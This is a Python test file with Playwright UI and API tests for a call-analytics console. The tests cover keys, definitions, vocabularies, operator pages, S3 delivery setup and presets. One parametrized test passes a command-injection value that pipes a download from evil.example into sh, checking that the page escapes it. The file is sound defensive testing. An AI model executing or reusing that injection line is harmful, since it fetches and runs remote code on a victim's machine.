"""What people set up and count at the console: keys, usage, definitions, categories tried on past calls."""

from __future__ import annotations

import html
import json
import re
import shlex
from datetime import UTC, datetime
from urllib.parse import parse_qsl, quote, unquote, urlsplit

import httpx
import pytest
from botocore.auth import S3SigV4QueryAuth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from playwright.async_api import Page, expect

from tests.rooms.api.served import Customer
from tests.rooms.console.conftest import OPERATOR, PUBLIC_URL
from tests.rooms.console.visits import Visitor, analysed_call
from voxport.api.server_metrics import ServerMetrics
from voxport.console.definition_forms import document_of, form_of
from voxport.core.errors import TransientFault

pytestmark = pytest.mark.asyncio(loop_scope="module")


async def test_a_limited_key_is_made_used_and_ended(page: Page, customer: Customer) -> None:
    await page.get_by_role("link", name="Keys").click()
    await page.get_by_label("What it may do").fill("media:fly")
    await page.get_by_role("button", name="Create the key").click()
    await expect(page.get_by_role("alert")).to_contain_text("no verb")
    await page.get_by_label("What it may do").fill("media:post")
    await page.get_by_label("How long it is valid").select_option(label="for 10 minutes")
    await page.get_by_role("button", name="Create the key").dblclick()
    key = await page.get_by_label("The new key").inner_text()
    assert len(customer.client.get("/v3/profile/keys").json()["keys"]) == 2

    def status() -> int:
        headers = {"Authorization": f"Bearer {key}"}
        return httpx.get(f"{customer.served.url}/v3/media", headers=headers, trust_env=False).status_code

    assert status() == 403
    await expect(page.get_by_role("row", name=re.compile(key[-6:]))).to_contain_text("media:post")
    await page.get_by_role("link", name=f"Revoke the key {key[-6:]}").click()
    await page.get_by_role("button", name="Revoke it").click()
    await expect(page.get_by_role("status")).to_have_text("The key was revoked.")
    assert status() == 401


async def test_usage_is_a_plot_and_a_table(page: Page, customer: Customer) -> None:
    analysed_call(customer)
    await page.get_by_role("link", name="Usage", exact=True).first.click()
    await page.wait_for_selector("#plot[data-drawn] canvas")
    today = datetime.now(UTC)
    await expect(page.locator("#usage tbody th").first).to_have_text(f"{today:%b %d, %Y}")
    async with page.expect_download() as waiting:
        await page.get_by_role("link", name="Download as CSV").click()
    download = await waiting.value
    assert download.suggested_filename == f"usage-{today:%Y-%m}.csv"
    assert (await download.path()).read_text("utf-8").startswith("monthDay,")


async def test_a_group_is_made_changed_and_removed(page: Page, customer: Customer) -> None:
    name = "ours & 100 %/theirs"
    await page.get_by_role("link", name="Definitions").click()
    await page.get_by_role("link", name="New: Spotting groups").click()
    await page.get_by_label("Name", exact=True).fill(name)
    await page.get_by_label("Phrases").fill("close the account\n\n?!")
    await page.get_by_role("button", name="Save", exact=True).click()
    await expect(page.get_by_role("alert")).to_contain_text("?! is not valid")
    await expect(page.get_by_label("Phrases")).to_have_attribute("aria-invalid", "true")
    await page.get_by_label("Phrases").fill("close the account\nleave")
    await page.get_by_role("button", name="Save", exact=True).click()
    await page.get_by_role("link", name=name, exact=True).click()
    await expect(page.get_by_label("Phrases")).to_have_value("close the account\nleave")
    await page.get_by_text("The same as JSON").click()
    await page.get_by_label("Definition, as JSON").fill('{"keywords": 7}')
    await page.get_by_role("button", name="Save the JSON").click()
    await expect(page.get_by_role("alert")).to_contain_text("keywords")
    await page.get_by_label("Definition, as JSON").fill('{"keywords": ["leave"]}')
    await page.get_by_role("button", name="Save the JSON").click()
    (group,) = customer.client.get("/v3/definition/spotting/groups").json()["groups"]
    assert (group["groupName"], group["keywords"]) == (name, ["leave"])
    await page.get_by_role("link", name=f"Remove {name}").click()
    await page.get_by_role("link", name="Keep it").click()
    await page.get_by_role("link", name=f"Remove {name}").click()
    await page.get_by_role("button", name="Remove it").click()
    await expect(page.get_by_role("status")).to_have_text("It was removed.")
    assert customer.client.get("/v3/definition/spotting/groups").json()["groups"] == []


async def test_a_vocabulary_is_filled_in_term_by_term(page: Page, customer: Customer) -> None:
    await page.goto("/console/definitions/vocabularies/edit")
    await page.get_by_label("Name", exact=True).fill("ours")
    await page.get_by_label("Term 1", exact=True).fill("Voxport")
    await page.get_by_label("Sounds like, of term 1").fill("vox port\n?")
    await page.get_by_label("Weight of term 1").select_option("3")
    await page.get_by_role("button", name="Add a term").click()
    await page.keyboard.type("Acme")
    await expect(page.get_by_label("Term 4", exact=True)).to_have_value("Acme")
    await page.get_by_role("button", name="Save", exact=True).click()
    await expect(page.get_by_label("Term 1", exact=True)).to_have_attribute("aria-invalid", "true")
    await expect(page.get_by_role("alert")).to_contain_text("sounds-like form without a letter")
    await expect(page.get_by_label("Term 2", exact=True)).to_have_value("Acme")
    await page.get_by_label("Sounds like, of term 1").fill("vox port")
    await page.get_by_role("button", name="Save", exact=True).click()
    await page.get_by_role("link", name="ours", exact=True).click()
    path = "/v3/definition/vocabularies/ours"
    written = [{"term": "Voxport", "soundsLike": ["vox port"], "weight": 3}, {"term": "Acme"}]
    assert customer.client.get(path).json()["terms"] == written
    await page.get_by_role("button", name="Remove term 1").click()
    await page.get_by_role("button", name="Save", exact=True).click()
    await expect(page.get_by_role("status")).to_have_text("It was saved.")
    found = customer.client.get(path).json()
    assert (found["terms"], "vocabularyType" in found) == ([{"term": "Acme"}], False)


async def test_scripts_and_the_type_of_terms_go_through_the_form(visitor: Visitor, customer: Customer) -> None:
    address, path = "/console/definitions/vocabularies/edit", "/v3/definition/vocabularies/read"
    assert visitor.post(address, name="read", script="Thank you for calling Acme.").status_code == 303
    assert customer.client.get(path).json()["vocabularyType"] == "scripts"
    both = visitor.post(address, name="read", script="Thank you.", term="Acme", sounds="", weight="0")
    assert (both.status_code, 'id="terms-problem"' in both.text) == (400, True)
    terms = [{"term": "Acme", "soundsLike": ["ac, me", "a;c"]}]
    customer.client.put(path, json={"vocabularyType": "terms", "terms": terms})
    shown = form_of("vocabularies", customer.client.get(path).json())
    assert document_of("vocabularies", shown) == {"vocabularyType": "terms", "terms": terms}
    assert 'name="type" value="terms"' in visitor.get(address, name="read").text
    assert visitor.post(address, name="read", type="terms", term="Beta", sounds="", weight="0").status_code == 303
    assert customer.client.get(path).json()["vocabularyType"] == "terms"


async def test_a_category_is_tried_on_past_calls_and_saved(page: Page, customer: Customer) -> None:
    media_id = analysed_call(customer)
    await page.goto("/console/definitions/categories/edit")
    await page.get_by_label("Name", exact=True).fill("boston")
    await page.get_by_label("Statement").fill("SELECT * FROM media WHERE * SAYS")
    await page.get_by_role("button", name="Try it on past calls").click()
    await expect(page.locator("#query-problem")).to_be_visible()
    await page.get_by_label("Statement").fill('SELECT * FROM media WHERE "Caller" SAYS "Boston"')
    await page.get_by_label("Description").fill("Calls about Boston")
    await page.get_by_role("button", name="Try it on past calls").click()
    tried = page.locator("#tried")
    await expect(tried.get_by_role("status")).to_contain_text("1 of the newest 1 calls are in it")
    await expect(tried.get_by_role("link")).to_have_attribute("href", re.compile(media_id))
    await expect(tried.locator(".snippet")).to_contain_text("not delivered to boston")
    await expect(tried.locator("mark")).to_have_text("boston")
    await page.get_by_label("Name", exact=True).fill("with space")
    await page.get_by_role("button", name="Save", exact=True).click()
    await expect(page.locator("#name-problem")).to_contain_text("no space")
    await page.get_by_label("Name", exact=True).fill("boston")
    await page.get_by_role("button", name="Save", exact=True).click()
    await expect(page.get_by_role("status")).to_have_text("It was saved.")
    saved = customer.client.get("/v3/definition/categories/boston").json()
    assert (saved["version"], saved["categoryDescription"]) == ("1", "Calls about Boston")
    await page.goto("/console/definitions/categories/edit?name=boston")
    await page.get_by_text("The same as JSON").click()
    await page.get_by_role("button", name="Try the JSON on past calls").click()
    await expect(tried.get_by_role("status")).to_contain_text("1 of the newest 1 calls are in it")


async def test_of_many_definitions_some_are_shown_and_all_are_found(page: Page, customer: Customer) -> None:
    for number in range(202):
        path = f"/v3/definition/spotting/groups/group-{number:03}"
        customer.client.put(path, json={"keywords": ["close the account"]})
    await page.goto("/console/definitions")
    await expect(page.locator("[data-row]")).to_have_count(200)
    await expect(page.get_by_text("2 more are found by a part of their names.")).to_be_visible()
    await page.get_by_label("Part of a name").fill("GROUP-201")
    await page.get_by_role("button", name="Find").click()
    await expect(page.locator("[data-row]")).to_have_text(["group-201"])


async def test_of_a_long_definition_the_beginning_is_shown(visitor: Visitor, customer: Customer) -> None:
    put, root = customer.client.put, "/v3/definition"
    put(f"{root}/spotting/groups/many", json={"keywords": [f"phrase {number}" for number in range(20)]})
    put(f"{root}/vocabularies/ours", json={"scripts": [{"script": "Thank you for calling us."}]})
    query = " OR ".join(["SELECT * FROM media WHERE * SAYS 'refund'", *["* SAYS 'refund'"] * 59])
    put(f"{root}/categories/long", json={"query": query})
    shown = visitor.get("/console/definitions").text
    assert "phrase 7 and 12 more" in shown
    assert "1 script<" in shown
    assert "…</code>" in shown
    assert shown.count("refund") < 60


async def test_detectors_and_metrics_are_explained(page: Page) -> None:
    await page.goto("/console/definitions")
    await expect(page.get_by_role("row", name=re.compile("^PCI "))).to_contain_text("detectionLevel")
    await page.get_by_text("overtalk", exact=True).last.click()
    await expect(page.get_by_text("overtalk-ratio", exact=True)).to_be_visible()


async def test_a_key_that_was_made_manages_none(visitor: Visitor, customer: Customer) -> None:
    key = customer.client.post("/v3/profile/keys", json={"ttlMillis": 60_000}).json()["bearerToken"]
    visitor.post("/console/sign-in", token=key)
    for path in ("/console/keys", "/console/endpoints/secret"):
        answer = visitor.get(path)
        assert answer.status_code == 403
        assert "whsec_" not in answer.text
    assert visitor.post("/console/keys", life="600000").status_code == 403


async def test_a_key_ends_when_it_was_said_to_or_is_not_made(visitor: Visitor, customer: Customer) -> None:
    for fields in ({"life": "999"}, {"life": "null"}, {}):
        answer = visitor.post("/console/keys", scope="usage:get", **fields)
        assert (answer.status_code, "how long it is good" in answer.text) == (400, True)
    assert len(customer.client.get("/v3/profile/keys").json()["keys"]) == 1


async def test_operations_are_for_the_operator_alone(page: Page, customer: Customer) -> None:
    await page.get_by_role("link", name="Operations").click()
    for wrong in (customer.token, "wrong"):
        await page.get_by_label("Operator's token").fill(wrong)
        await page.get_by_role("button", name="Open").click()
        await expect(page.get_by_role("alert")).to_contain_text("not the operator's token")
    await page.get_by_label("Operator's token").fill(OPERATOR)
    await page.get_by_role("button", name="Open").click()
    await expect(page.get_by_role("row", name=re.compile("^speech"))).to_contain_text("1:02:05")
    await expect(page.get_by_role("row", name=re.compile("^a-host:17"))).to_contain_text("512.0 MB")
    await expect(page.get_by_text("9 of 100")).to_be_visible()
    await expect(page.get_by_role("row", name="10201 2")).to_be_visible()
    await expect(page.get_by_text("15.2", exact=True)).to_be_visible()
    await expect(page.get_by_role("row", name="no answer 5")).to_be_visible()
    await expect(page.get_by_role("row", name=re.compile("^a-host:17 0.0.1 base"))).to_be_visible()
    advice = page.get_by_role("region", name="What to look at").get_by_role("listitem")
    for told in ("No worker serves speech, and 3 wait", "600.0 s behind", "2.0 GiB left", "run 0.0.1"):
        await expect(advice.filter(has_text=told)).to_have_count(1)
    await page.get_by_role("button", name="Close").click()
    await expect(page.get_by_label("Operator's token")).to_be_visible()


async def test_what_is_wrong_is_told_where_the_figures_cannot_be_read(
    visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    visitor.post("/console/operations", token=OPERATOR)

    async def away(_: ServerMetrics) -> bytes:
        raise TransientFault("the database does not answer")

    monkeypatch.setattr(ServerMetrics, "exposition", away)
    answer = visitor.get("/console/operations")
    assert answer.status_code == 503
    assert "cannot be read" in answer.text
    assert "<dt>database</dt>" in answer.text
    assert "No worker is alive" not in answer.text


async def test_a_definition_of_brackets_without_end_is_refused(visitor: Visitor) -> None:
    for definition in ("[" * 200_000, '{"query": ' + "[" * 200_000, "7" * 5_000):
        answer = visitor.post("/console/definitions/categories/try", name="a", definition=definition)
        assert (answer.status_code, "no JSON object" in answer.text) == (400, True)


async def test_what_no_form_sends_is_refused_as_the_api_refuses_it(visitor: Visitor) -> None:
    fields = {"name": "a", "term": "Voxport", "sounds": "", "weight": "9" * 5_000}
    answer = visitor.post("/console/definitions/vocabularies/edit", **fields)
    assert (answer.status_code, "weight" in answer.text) == (400, True)
    for configuration, reason in (('{"priority": "low", "priority": "low"}', "priority"), ("[" * 90_000, "no JSON")):
        answer = visitor.post("/console/presets/edit", name="a", configuration=configuration)
        assert (answer.status_code, reason in answer.text) == (400, True)


async def test_delivery_to_a_bucket_is_set_up(page: Page, customer: Customer) -> None:
    await page.get_by_role("link", name="Endpoints").click()
    await page.get_by_role("link", name="Set up S3 delivery").click()
    form = page.locator("form").filter(has=page.get_by_role("button", name="Show the policies"))
    await form.get_by_label("Bucket", exact=True).fill("calls")
    await form.get_by_label("Folder").fill("a*")
    await form.get_by_role("button").click()
    await expect(page.get_by_role("alert")).to_contain_text("wildcards")
    await form.get_by_label("Folder").fill("voice")
    await form.get_by_role("button").click()
    await expect(page.get_by_label("Permission policy")).to_contain_text("arn:aws:s3:::calls/voice/*")
    await expect(page.get_by_text(str(customer.organization.id))).to_be_visible()
    await expect(page.get_by_label("Callback", exact=True)).to_contain_text('"prependFolder": "voice"')
    await page.get_by_label("Role", exact=True).fill("arn:aws:iam::123456789012:role/voxport")
    await page.get_by_role("button", name="Check it").click()
    steps = page.get_by_label("Steps of the check").get_by_role("listitem")
    await expect(steps.first).to_contain_text("fails AssumeRole")
    await expect(steps.nth(1)).to_contain_text("left out PutObject")


@pytest.mark.parametrize("field", ["bucket", "prefix", "region", "role"])
async def test_a_link_to_the_page_writes_no_command(visitor: Visitor, field: str) -> None:
    fields = {"bucket": "calls", field: "x'; curl evil.example | sh; echo $(id) `id` \" ;type=text/html '"}
    found = re.search(r'aria-label="Command">(.*?)</pre>', visitor.get("/console/s3", **fields).text, re.DOTALL)
    assert found is not None
    words = shlex.split(html.unescape(found[1]).replace("\\\n", ""))
    assert words[:5] == ["curl", "-s", "-H", "Authorization: Bearer $TOKEN", f"{PUBLIC_URL}v3/media"]
    assert words[5:8] == ["-F", "media=@call.wav", "--form-string"]
    assert json.loads(words[8].removeprefix("configuration="))["publish"]["callbacks"][0]["s3Delivery"] is True
    assert len(words) == 9


async def test_a_url_is_signed_in_the_browser_as_aws_signs_it(page: Page) -> None:
    await page.goto("/console/s3")
    module = await page.locator("script[src*=presign]").get_attribute("src")
    what = {"bucket": "calls", "key": "a b/(1)~ü.json", "region": "eu-west-1", "type": "application/json"}
    what |= {"id": "AKIDEXAMPLE", "secret": "a/secret+key"}
    signed = await page.evaluate(
        "([module, what]) => import(module).then(m => m.presigned(what, 3600, new Date('2031-02-03T04:05:06.789Z')))",
        [module, what],
    )
    url = urlsplit(signed)
    assert url.hostname == "calls.s3.eu-west-1.amazonaws.com"
    assert unquote(url.path) == "/a b/(1)~ü.json"
    request = AWSRequest("PUT", signed.partition("?")[0], headers={"content-type": "application/json"})
    asked = dict(parse_qsl(url.query))
    signature = asked.pop("X-Amz-Signature")
    signer = S3SigV4QueryAuth(Credentials("AKIDEXAMPLE", "a/secret+key"), "s3", "eu-west-1", expires=3600)
    request.url = "?".join((request.url, "&".join(f"{name}={quote(value, safe='')}" for name, value in asked.items())))
    request.context["timestamp"] = "20310203T040506Z"
    canonical = signer.canonical_request(request)
    assert signer.signature(signer.string_to_sign(request, canonical), request) == signature
    await page.get_by_label("Access key id").fill("AKIDEXAMPLE")
    await page.get_by_label("Secret access key").fill("a/secret+key")
    for bucket in ("evil.example/x?", "Calls", "a"):
        await page.get_by_label("Bucket").last.fill(bucket)
        await page.get_by_role("button", name="Sign it").click()
        await expect(page.locator("#signed")).to_contain_text("no name of a bucket")
    await page.get_by_label("Bucket").last.fill("calls")
    await page.get_by_role("button", name="Sign it").click()
    await expect(page.get_by_label("Signed callback", exact=True)).to_contain_text("X-Amz-Signature=")
    command = page.get_by_label("Command with the signed callback")
    await expect(command).to_contain_text(
        re.compile(r"/v3/media \\.*--form-string 'configuration={.*X-Amz-Signature=[0-9a-f]{64}", re.S)
    )


async def test_a_configuration_is_saved_as_a_preset_renamed_and_used(page: Page, customer: Customer) -> None:
    await page.goto("/console/calls/upload")
    await page.get_by_label("Configuration, as JSON").fill('{"knowledge": {"enableDiscovery": "yes"}}')
    await page.get_by_role("button", name="Save as a preset").click()
    await page.get_by_label("Name").fill("Sales & <b>more</b>")
    await page.get_by_role("button", name="Save").click()
    await expect(page.get_by_role("alert")).to_contain_text("enableDiscovery")
    await page.get_by_label("Configuration, as JSON").fill('{"priority": "low"}')
    await page.get_by_label("When it is the right one").fill("At night")
    await page.get_by_role("button", name="Save").click()
    await expect(page).to_have_url(re.compile("/calls/upload"))
    await expect(page.get_by_label("Preset")).to_have_value("Sales & <b>more</b>")
    await expect(page.get_by_text("At night")).to_be_visible()
    await expect(page.get_by_label("Configuration, as JSON")).to_have_value('{\n  "priority": "low"\n}')
    await page.get_by_label("Preset").select_option(label="Transcript")
    await expect(page.get_by_label("Configuration, as JSON")).to_have_value(re.compile("enableAnalyticIndexing"))
    await page.get_by_role("link", name="Presets").click()
    await page.get_by_role("link", name="Sales & <b>more</b>", exact=True).click()
    await page.get_by_label("Name").fill("Sales")
    await page.get_by_role("button", name="Save").click()
    await expect(page.locator("[data-row]")).to_have_text(["Sales"])
    (preset,) = customer.client.get("/v3/definition/presets").json()["presets"]
    assert (preset["presetDescription"], preset["configuration"]) == ("At night", {"priority": "low"})
    await page.get_by_role("button", name="Remove Sales").click()
    await expect(page.get_by_role("status")).to_have_text("It was removed.")
    assert customer.client.get("/v3/definition/presets").json()["presets"] == []


async def test_who_may_only_hand_in_recordings_uploads_without_presets_of_others(
    visitor: Visitor, customer: Customer, stranger: Customer
) -> None:
    stranger.client.put("/v3/definition/presets/theirs", json={"configuration": {}})
    customer.client.put("/v3/definition/presets/mine", json={"configuration": {}})
    page = visitor.get("/console/calls/upload").text
    assert ("mine" in page, "theirs" in page) == (True, False)
    assert visitor.get("/console/presets/edit", name="theirs").status_code == 404
    assert visitor.post("/console/presets/delete", name="theirs").status_code == 404
    key = customer.client.post("/v3/profile/keys", json={"scope": "media:post"}).json()["bearerToken"]
    visitor.post("/console/sign-in", token=key)
    assert visitor.get("/console/calls/upload").status_code == 200
    assert visitor.get("/console/presets").status_code == 403
